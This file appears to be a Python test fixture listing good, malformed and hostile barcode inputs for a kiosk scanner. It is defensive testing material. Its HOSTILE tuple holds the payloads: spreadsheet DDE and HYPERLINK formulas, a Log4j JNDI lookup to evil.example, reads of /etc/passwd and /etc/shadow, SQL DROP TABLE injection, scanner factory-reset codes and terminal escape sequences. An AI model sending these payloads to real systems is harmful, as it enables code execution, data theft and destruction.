"""Codes to hold under the beam: what a shop has, what it has not, and what somebody made to see what happens."""

from typing import Final

from kiosk.testing.counter import (
    CARD,
    OTHER_CARD,
    PACKAGE,
    PRICE,
    ROLLS,
    UNKNOWN,
    badge_frame,
    card_frame,
    frame,
    label_frame,
    price_frame,
)

GOOD: Final = (
    frame(PACKAGE),
    frame(ROLLS[0]),
    frame(UNKNOWN),
    card_frame(CARD),
    card_frame(OTHER_CARD),
    badge_frame(),
    price_frame(),
    b"]C1TCN-7Q2M9XKD4",
)
BAD: Final = (
    b"]E0" + PRICE.encode(),
    b"]E04006381333932",
    frame(PACKAGE)[:-1],
    frame(f"{ROLLS[0]}(91)7KQ2ZZ"),
    label_frame("TCR-0000000000", "7KQ2ZZ"),
    b"]d2",
    b"",
    b"\x07",
    b"]Q1https://photos.example/r#0123456789ABCDEFG",
)
HOSTILE: Final = (
    b"=cmd|' /C calc'!A0",
    b"@SUM(1+9)*cmd|' /C calc'!A0",
    b']C1=HYPERLINK("http://evil.example";"free film")',
    b"]Q1https://evil.example/?next=//kiosk",
    b"]Q1file:///etc/passwd",
    b"]Q1javascript:alert(1)",
    b"]Q1WIFI:T:WPA;S:free;P:12345678;;",
    b"]C1$%SCAN_RESET_DEFAULTS",
    b"]C4\x16M\rDEFALT.",
    b"]C1^3PRGFACTORY",
    b"]d2\x1d\x1d\x1d01\x1d09506000134352\x1d21\x04\x03\x1b[2J",
    b"]d20109506000134352\x1d21A\x00B\x1d91\x1b@\x1dV\x00",
    b"]C1\x03\x1a\x11\x13\x1b[31m",
    b"]C1[b]bold[/b][ref=x]y[/ref][color=ff0000]",
    b"]C1../../../../etc/shadow",
    b"]C1'; DROP TABLE events; --",
    b"]C1%n%s%x${jndi:ldap://evil.example/a}",
    "]Q1\u202egnp.exe\u2066 \U0001f4a9 ﷽".encode(),
    b"]C1" + b"A" * 4000,
    b"]Q1" + bytes(range(256)) * 4,
    b"\xff\xfe\xfd",
    b"quit",
    b"Alt+F4",
    b"\x1b[21~",
)
